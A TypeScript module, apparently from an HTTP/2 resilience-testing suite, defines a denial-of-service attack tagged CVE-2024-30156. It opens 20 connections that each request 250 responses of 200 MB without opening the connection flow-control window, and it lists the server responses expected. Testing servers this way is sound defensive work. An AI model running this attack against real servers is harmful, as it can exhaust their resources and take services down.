// Answers that are never taken: the windows of streams are open, that of the connection is not.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2024-30156',
  does: 'asks for 250 lists of 200 MB, and never opens the window of the connection, on 20 of them',
  who: ['known', 'unknown'],
  // An answer without progress is reset when its user has too many of them.
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', 'RST_STREAM INTERNAL_ERROR'],
  run: (target, signal) =>
    attackHttp2(target, signal, { connections: 20, opensWindow: false }, (connection) =>
      closedLoop(connection, 250, request(head(target, 'GET', '/api/v1/pods?bytes=200000000'))),
    ),
}
